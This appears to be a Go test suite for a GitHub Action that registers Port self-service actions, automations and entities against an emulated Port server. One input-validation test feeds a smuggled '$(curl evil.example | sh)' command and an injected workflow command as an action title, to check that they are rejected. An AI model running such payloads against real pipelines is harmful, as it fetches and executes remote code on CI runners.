package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/port-roi/port-roi-action/internal/ghaction"
	"github.com/port-roi/port-roi-action/internal/port"
	"github.com/port-roi/port-roi-action/internal/portemu"
	"github.com/port-roi/port-roi-action/internal/register"
	"github.com/port-roi/port-roi-action/internal/roimodel"
)

// org is an emulated Port organisation with the guide's data model, a category and a Port run of
// setup_new_action for the workflow to report to.
type org struct {
	emu *portemu.Server
	url string
}

func newOrg(t *testing.T, opts ...portemu.Option) *org {
	t.Helper()
	emu := portemu.New(append([]portemu.Option{portemu.WithBlueprints(roimodel.Blueprints()...)}, opts...)...)
	srv := httptest.NewServer(emu)
	t.Cleanup(srv.Close)
	o := &org{emu: emu, url: srv.URL}
	c := o.client(t)
	if _, err := c.UpsertEntity(t.Context(), roimodel.CategoriesBlueprint,
		port.Entity{Identifier: "infrastructure", Title: "Infrastructure"}, port.UpsertOptions{Merge: true}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.CreateAction(t.Context(), roimodel.SetupAction()); err != nil {
		t.Fatal(err)
	}
	emu.ResetRequests()
	return o
}

func (o *org) client(t *testing.T) *port.Client {
	t.Helper()
	c, err := port.New(o.url, port.Credentials{ClientID: portemu.DemoClientID, ClientSecret: portemu.DemoClientSecret})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// dispatch starts a run of setup_new_action, as a Port user clicking "Create" would, and returns its id.
func (o *org) dispatch(t *testing.T) string {
	t.Helper()
	run, err := o.emu.CreateRun("setup_new_action", map[string]any{"actionTitle": "Create S3 Bucket", "category": "infrastructure"}, portemu.DemoUser)
	if err != nil {
		t.Fatal(err)
	}
	o.emu.ResetRequests()
	return run.ID
}

// actionsEnv is the environment the runner gives a docker action dispatched by Port: credentials as action
// inputs, everything else in the workflow_dispatch payload.
type actionsEnv struct {
	vars            map[string]string
	output, summary string
	stdout          bytes.Buffer
}

func newActionsEnv(t *testing.T, baseURL string, dispatchInputs map[string]any) *actionsEnv {
	t.Helper()
	dir := t.TempDir()
	event, err := json.Marshal(map[string]any{"inputs": dispatchInputs, "ref": "refs/heads/main",
		"repository": map[string]any{"full_name": "acme/platform"}, "workflow": ".github/workflows/create-port-automation.yml"})
	if err != nil {
		t.Fatal(err)
	}
	e := &actionsEnv{output: filepath.Join(dir, "output"), summary: filepath.Join(dir, "summary")}
	eventPath := filepath.Join(dir, "event.json")
	for _, f := range []struct {
		path string
		data []byte
	}{{eventPath, event}, {e.output, nil}, {e.summary, nil}} {
		if err := os.WriteFile(f.path, f.data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	e.vars = map[string]string{
		"GITHUB_ACTIONS":           "true",
		"GITHUB_EVENT_NAME":        "workflow_dispatch",
		"GITHUB_EVENT_PATH":        eventPath,
		"GITHUB_OUTPUT":            e.output,
		"GITHUB_STEP_SUMMARY":      e.summary,
		"GITHUB_REPOSITORY":        "acme/platform",
		"INPUT_COMMAND":            "register",
		"INPUT_PORT-CLIENT-ID":     portemu.DemoClientID,
		"INPUT_PORT-CLIENT-SECRET": portemu.DemoClientSecret,
		"INPUT_PORT-REGION":        "eu",
		"INPUT_PORT-BASE-URL":      baseURL,
		"INPUT_DRY-RUN":            "false",
		"INPUT_REPORT-STATUS":      "false",
	}
	return e
}

func (e *actionsEnv) run(t *testing.T, args ...string) int {
	t.Helper()
	e.stdout.Reset()
	return Run(t.Context(), args, Env{Getenv: func(k string) string { return e.vars[k] }, Stdout: &e.stdout, Stderr: &e.stdout,
		PortOptions: testPortOptions()})
}

func (e *actionsEnv) outputs(t *testing.T) map[string]string {
	t.Helper()
	b, err := os.ReadFile(e.output)
	if err != nil {
		t.Fatal(err)
	}
	out, err := ghaction.ParseOutputs(b)
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// guideDefinition reads a definition transcribed from the guide's scripts.
func guideDefinition(t *testing.T, name string) map[string]any {
	t.Helper()
	var v map[string]any
	if err := json.Unmarshal([]byte(readFile(t, "../register/testdata/"+name)), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// writes lists the requests that changed Port, as "METHOD path status".
func writes(reqs []portemu.Request) []string {
	var out []string
	for _, r := range reqs {
		if r.Method == http.MethodGet || r.Path == "/v1/auth/access_token" || strings.HasSuffix(r.Path, "/logs") {
			continue
		}
		if r.Status >= 200 && r.Status < 300 {
			out = append(out, r.Method+" "+r.Path)
		}
	}
	return out
}

func TestRegisterEndToEnd(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	runID := o.dispatch(t)
	env := newActionsEnv(t, o.url, map[string]any{
		"actionTitle":      "Create S3 Bucket",
		"category":         `{"identifier":"infrastructure","title":"Infrastructure","blueprint":"actions_categories"}`,
		"lead_time_before": "48",
		"cycle_time":       "",
		"port_context":     `{"runId":"` + runID + `","blueprint":"action"}`,
	})

	if code := env.run(t); code != ExitOK {
		t.Fatalf("exit code %d, want 0; output:\n%s", code, env.stdout.String())
	}

	// Port ends up as the guide's scripts leave it.
	action, ok := o.emu.Action("create_s3_bucket")
	if !ok {
		t.Fatal("the self-service action was not created")
	}
	if drift := register.Drift(guideDefinition(t, "guide_placeholder_action.json"), action); len(drift) > 0 {
		t.Errorf("self-service action differs from the guide's in %v", drift)
	}
	automation, ok := o.emu.Action("automation_for_runs_of_create_s3_bucket")
	if !ok {
		t.Fatal("the automation was not created")
	}
	if drift := register.Drift(register.Automation("create_s3_bucket", "https://app.port.io"), automation); len(drift) > 0 {
		t.Errorf("automation differs in %v", drift)
	}
	entity, ok := o.emu.Entity(roimodel.ActionBlueprint, "create_s3_bucket")
	if !ok {
		t.Fatal("the action entity was not created")
	}
	if entity.Title != "Create S3 Bucket" || entity.Properties["lead_time_before"] != 48.0 || entity.Relations["category"] != "infrastructure" {
		t.Errorf("entity = %+v", entity)
	}
	if v, ok := entity.Properties["cycle_time"]; ok && v != nil {
		t.Errorf("blank cycle time was sent as %v", v)
	}

	wantOutputs := map[string]string{
		"action-identifier":     "create_s3_bucket",
		"automation-identifier": "automation_for_runs_of_create_s3_bucket",
		"action-created":        "true",
		"automation-created":    "true",
		"automation-updated":    "false",
	}
	if diff := cmp.Diff(wantOutputs, env.outputs(t)); diff != "" {
		t.Errorf("outputs (-want +got):\n%s", diff)
	}
	summary := readFile(t, env.summary)
	for _, want := range []string{
		"| Self-service action | [`create_s3_bucket`](https://app.port.io/self-serve) | created |",
		"| Automation | [`automation_for_runs_of_create_s3_bucket`](https://app.port.io/settings/automations) | created |",
		"| Entity of blueprint `action` | [`create_s3_bucket`](https://app.port.io/actionEntity?identifier=create_s3_bucket) | created |",
		"lead time before 48 h · cycle time before not set",
	} {
		if !strings.Contains(summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, summary)
		}
	}
	// Every step is in the Port run log and in a GitHub group.
	var log []string
	for _, l := range o.emu.RunLogs(runID) {
		log = append(log, strings.Split(l.Message, "\n")...)
		if l.TerminationStatus != "" {
			t.Errorf("run log line %q ends the run without report-status", l.Message)
		}
	}
	for _, want := range []string{
		`📦 Created self-service action "create_s3_bucket" (a placeholder: replace its backend with your own)`,
		`🚀 Created automation "automation_for_runs_of_create_s3_bucket": every run of "create_s3_bucket" is now recorded as an action_run entity`,
		`📦 Created entity "create_s3_bucket" with its category and baselines`,
		`🏁 Registered "create_s3_bucket": action created, automation created, entity created`,
	} {
		if !containsLine(log, want) {
			t.Errorf("Port run log lacks %q:\n%s", want, strings.Join(log, "\n"))
		}
	}
	for _, want := range []string{`::group::Self-service action "create_s3_bucket"`, `::group::Automation "automation_for_runs_of_create_s3_bucket"`, "::endgroup::"} {
		if !strings.Contains(env.stdout.String(), want) {
			t.Errorf("GitHub log lacks %q:\n%s", want, env.stdout.String())
		}
	}

	// A second registration, from a new Port run, writes nothing.
	second := o.dispatch(t)
	env.vars["GITHUB_EVENT_PATH"] = newActionsEnv(t, o.url, map[string]any{
		"actionTitle": "Create S3 Bucket", "category": "infrastructure", "lead_time_before": "48",
		"port_context": `{"runId":"` + second + `"}`,
	}).vars["GITHUB_EVENT_PATH"]
	if err := os.WriteFile(env.output, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	if code := env.run(t); code != ExitOK {
		t.Fatalf("second run: exit code %d; output:\n%s", code, env.stdout.String())
	}
	if w := writes(o.emu.Requests()); len(w) > 0 {
		t.Errorf("second run wrote %v", w)
	}
	wantOutputs["action-created"], wantOutputs["automation-created"] = "false", "false"
	if diff := cmp.Diff(wantOutputs, env.outputs(t)); diff != "" {
		t.Errorf("second run outputs (-want +got):\n%s", diff)
	}
	if log := o.emu.RunLogs(second); len(log) == 0 || !strings.Contains(log[len(log)-1].Message,
		`🏁 Registered "create_s3_bucket": action unchanged, automation unchanged, entity unchanged`) {
		t.Errorf("second run's log: %+v", log)
	}
}

func containsLine(lines []string, want string) bool {
	for _, l := range lines {
		if l == want {
			return true
		}
	}
	return false
}

// A drifted automation is repaired and reported as updated; fields users added to the entity survive.
func TestRegisterRepairsDriftAndKeepsUserEdits(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	c := o.client(t)
	env := newActionsEnv(t, o.url, map[string]any{"actionTitle": "Rotate keys", "category": "infrastructure",
		"lead_time_before": "8", "cycle_time": "1", "port_context": `{"runId":"` + o.dispatch(t) + `"}`})
	if code := env.run(t); code != ExitOK {
		t.Fatalf("exit code %d:\n%s", code, env.stdout.String())
	}
	// Someone edits the automation by hand and documents the action entity in Port.
	auto, _ := o.emu.Action("automation_for_runs_of_rotate_keys")
	auto["invocationMethod"] = map[string]any{"type": "WEBHOOK", "url": "https://example.com/hook"}
	if _, err := c.UpdateAction(t.Context(), "automation_for_runs_of_rotate_keys", auto); err != nil {
		t.Fatal(err)
	}
	if _, err := c.UpsertEntity(t.Context(), roimodel.ActionBlueprint, port.Entity{Identifier: "rotate_keys",
		Properties: map[string]any{"description": "Rotates the KMS keys", "criticality": "Tier 1"}}, port.UpsertOptions{Merge: true}); err != nil {
		t.Fatal(err)
	}

	env.vars["INPUT_PORT-CONTEXT"] = `{"runId":"` + o.dispatch(t) + `"}`
	env.vars["INPUT_CYCLE-TIME-BEFORE"] = "1.5"
	if code := env.run(t); code != ExitOK {
		t.Fatalf("exit code %d:\n%s", code, env.stdout.String())
	}
	if got := env.outputs(t)["automation-updated"]; got != "true" {
		t.Errorf("automation-updated = %q, want true", got)
	}
	got, _ := o.emu.Action("automation_for_runs_of_rotate_keys")
	if drift := register.Drift(register.Automation("rotate_keys", "https://app.port.io"), got); len(drift) > 0 {
		t.Errorf("automation still differs in %v", drift)
	}
	e, _ := o.emu.Entity(roimodel.ActionBlueprint, "rotate_keys")
	for k, want := range map[string]any{"description": "Rotates the KMS keys", "criticality": "Tier 1", "cycle_time": 1.5, "lead_time_before": 8.0} {
		if e.Properties[k] != want {
			t.Errorf("entity property %s = %v, want %v", k, e.Properties[k], want)
		}
	}
}

func TestRegisterDryRunWritesNothing(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	env := newActionsEnv(t, o.url, map[string]any{"actionTitle": "Create S3 Bucket", "category": "infrastructure",
		"port_context": `{"runId":"` + o.dispatch(t) + `"}`})
	env.vars["INPUT_DRY-RUN"] = "true"
	if code := env.run(t); code != ExitOK {
		t.Fatalf("exit code %d:\n%s", code, env.stdout.String())
	}
	for _, r := range o.emu.Requests() {
		if r.Method != http.MethodGet && r.Path != "/v1/auth/access_token" {
			t.Errorf("dry run sent %s %s", r.Method, r.Path)
		}
	}
	for _, want := range []string{
		`Self-service action "create_s3_bucket" would be created as a placeholder`,
		`Automation "automation_for_runs_of_create_s3_bucket" would be created`,
		`Entity "create_s3_bucket" would be created`,
	} {
		if !strings.Contains(env.stdout.String(), want) {
			t.Errorf("dry run output lacks %q:\n%s", want, env.stdout.String())
		}
	}
}

// Bad input is reported all at once, with exit code 2, and nothing reaches Port.
func TestRegisterInputErrors(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	env := newActionsEnv(t, o.url, map[string]any{
		"actionTitle": "$(curl evil.example | sh)\n::set-output name=x::y", "category": "{not json",
		"lead_time_before": "two days", "cycle_time": "NaN", "port_context": `{"blueprint":"action"}`,
	})
	env.vars["INPUT_PORT-CLIENT-SECRET"] = ""
	env.vars["INPUT_PORT-REGION"] = "mars"
	env.vars["INPUT_DRY-RUN"] = "maybe"
	if code := env.run(t); code != ExitInput {
		t.Fatalf("exit code %d, want %d:\n%s", code, ExitInput, env.stdout.String())
	}
	if reqs := o.emu.Requests(); len(reqs) > 0 {
		t.Errorf("bad input reached Port: %+v", reqs)
	}
	var errs []string
	for _, l := range strings.Split(env.stdout.String(), "\n") {
		if strings.HasPrefix(l, "::error::") {
			errs = append(errs, l)
		}
		if strings.HasPrefix(l, "::set-output") {
			t.Errorf("untrusted text became a workflow command: %q", l)
		}
	}
	want := []string{
		`::error::input "port-client-secret": is required: pass secrets.PORT_CLIENT_SECRET, or set the PORT_CLIENT_SECRET environment variable`,
		`::error::input "port-region" = "mars": expected eu or us (or set port-base-url)`,
		`::error::input "action-title" = "$(curl evil.example | sh)\n::set-output name=x::y": a title is one line of text, without line breaks, tabs or control characters`,
		`::error::input "category" = "{not json": expected a JSON entity object with an "identifier" or a bare identifier, but the JSON is invalid: invalid character 'n' looking for beginning of object key string at byte 2`,
		`::error::input "lead-time-before" = "two days": expected a number of hours, 0 or more (e.g. 4 or 0.5), or blank if unknown`,
		`::error::input "cycle-time-before" = "NaN": expected a number of hours, 0 or more (e.g. 4 or 0.5), or blank if unknown`,
		`::error::input "port-context" = "{\"blueprint\":\"action\"}": the object has no "runId"; pass {"runId": "{{ .run.id }}"} in the action's workflowInputs`,
		`::error::input "dry-run" = "maybe": expected true or false`,
	}
	if diff := cmp.Diff(want, errs); diff != "" {
		t.Errorf("errors (-want +got):\n%s", diff)
	}
	if out := readFile(t, env.output); out != "" {
		t.Errorf("outputs written on bad input: %q", out)
	}
}

func TestRegisterFromTerminal(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	vars := map[string]string{"PORT_CLIENT_ID": portemu.DemoClientID, "PORT_CLIENT_SECRET": portemu.DemoClientSecret}
	var out bytes.Buffer
	code := Run(context.Background(), []string{"register", "--port-base-url", o.url, "--action-title", "Create S3 Bucket",
		"--category", "infrastructure", "--lead-time-before", "48", "--cycle-time-before", "2"},
		Env{Getenv: func(k string) string { return vars[k] }, Stdout: &out, Stderr: &out, PortOptions: testPortOptions()})
	if code != ExitOK {
		t.Fatalf("exit code %d:\n%s", code, out.String())
	}
	if strings.Contains(out.String(), "::") {
		t.Errorf("workflow commands outside GitHub Actions:\n%s", out.String())
	}
	if !strings.Contains(out.String(), "no Port run id") {
		t.Errorf("no notice about the skipped run log:\n%s", out.String())
	}
	if _, ok := o.emu.Entity(roimodel.ActionBlueprint, "create_s3_bucket"); !ok {
		t.Error("entity not created")
	}
}

func TestHelp(t *testing.T) {
	t.Parallel()
	for _, args := range [][]string{{"--help"}, {"help"}, {"register", "--help"}, {"demo", "-h"}, {"emulator", "--help"}, {"version", "--help"}} {
		var out bytes.Buffer
		code := Run(context.Background(), args, Env{Getenv: func(string) string { return "" }, Stdout: &out, Stderr: &out})
		if code != ExitOK || !strings.Contains(out.String(), "Usage:") {
			t.Errorf("%v: exit %d, output:\n%s", args, code, out.String())
		}
	}
	var out bytes.Buffer
	if code := Run(context.Background(), []string{"register", "--no-such-flag"}, Env{Getenv: func(string) string { return "" }, Stdout: &out, Stderr: &out}); code != ExitInput {
		t.Errorf("unknown flag: exit %d, want %d", code, ExitInput)
	}
	if code := Run(context.Background(), []string{"frobnicate"}, Env{Getenv: func(string) string { return "" }, Stdout: &out, Stderr: &out}); code != ExitInput {
		t.Errorf("unknown command: exit %d, want %d", code, ExitInput)
	}
}

// A step that Port refuses fails the run with exit code 1: the other steps still run, the last run-log line
// says what failed and, with report-status, ends the Port run as FAILURE.
func TestRegisterFailureIsReported(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	runID := o.dispatch(t)
	env := newActionsEnv(t, o.url, map[string]any{"actionTitle": "Create S3 Bucket", "category": "infrastructure",
		"port_context": `{"runId":"` + runID + `"}`})
	env.vars["INPUT_REPORT-STATUS"] = "true"
	o.emu.InjectFault(portemu.Fault{Method: http.MethodPost, Path: "/v1/actions", Status: http.StatusInternalServerError})

	if code := env.run(t); code != ExitFailure {
		t.Fatalf("exit code %d, want %d:\n%s", code, ExitFailure, env.stdout.String())
	}
	if _, ok := o.emu.Action("automation_for_runs_of_create_s3_bucket"); ok {
		t.Error("the automation was created although its action could not be")
	}
	if _, ok := o.emu.Entity(roimodel.ActionBlueprint, "create_s3_bucket"); !ok {
		t.Error("the entity step did not run")
	}
	logs := o.emu.RunLogs(runID)
	last := logs[len(logs)-1]
	if last.TerminationStatus != port.RunFailure || !strings.Contains(last.Message, `❌ Registering "create_s3_bucket" failed: create self-service action "create_s3_bucket": POST /v1/actions: 500`) {
		t.Errorf("last run-log line = %+v", last)
	}
	if run, _ := o.emu.Run(runID); run.Status != port.RunFailure {
		t.Errorf("Port run status %q, want FAILURE", run.Status)
	}
	if !strings.Contains(env.stdout.String(), `::error::create self-service action "create_s3_bucket": POST /v1/actions: 500`) {
		t.Errorf("no error annotation:\n%s", env.stdout.String())
	}
	if got := env.outputs(t)["action-created"]; got != "false" {
		t.Errorf("action-created = %q", got)
	}
}

// Wrong credentials end with exit code 1 and a hint about credentials and region; the secret is never printed.
func TestRegisterWrongCredentials(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	env := newActionsEnv(t, o.url, map[string]any{"actionTitle": "x", "category": "infrastructure", "port_context": `{"runId":"r_1"}`})
	env.vars["INPUT_PORT-CLIENT-SECRET"] = "wrong-s3cr3t-value"
	if code := env.run(t); code != ExitFailure {
		t.Fatalf("exit code %d:\n%s", code, env.stdout.String())
	}
	out := env.stdout.String()
	if !strings.Contains(out, "Hint: Port refused the credentials: check port-client-id and port-client-secret, and that port-region (eu or us) is your organisation's region.") {
		t.Errorf("no credentials hint:\n%s", out)
	}
	if strings.Count(out, "wrong-s3cr3t-value") != 1 || !strings.Contains(out, "::add-mask::wrong-s3cr3t-value") {
		t.Errorf("the secret appears outside its mask command:\n%s", out)
	}
}

// A category that does not exist is bad input: exit code 2, and the registration leaves nothing behind.
func TestRegisterUnknownCategoryLeavesNothing(t *testing.T) {
	t.Parallel()
	o := newOrg(t)
	runID := o.dispatch(t)
	env := newActionsEnv(t, o.url, map[string]any{"actionTitle": "Create S3 Bucket", "category": "no_such_category",
		"port_context": `{"runId":"` + runID + `"}`})
	if code := env.run(t); code != ExitInput {
		t.Fatalf("exit code %d, want %d:\n%s", code, ExitInput, env.stdout.String())
	}
	for _, id := range []string{"create_s3_bucket", "automation_for_runs_of_create_s3_bucket"} {
		if _, ok := o.emu.Action(id); ok {
			t.Errorf("%s was left in Port", id)
		}
	}
	if _, ok := o.emu.Entity(roimodel.ActionBlueprint, "create_s3_bucket"); ok {
		t.Error("the entity was created")
	}
	if !strings.Contains(env.stdout.String(), `::error::input "category" = "no_such_category": no entity with this identifier exists in blueprint actions_categories`) {
		t.Errorf("no input error:\n%s", env.stdout.String())
	}
}
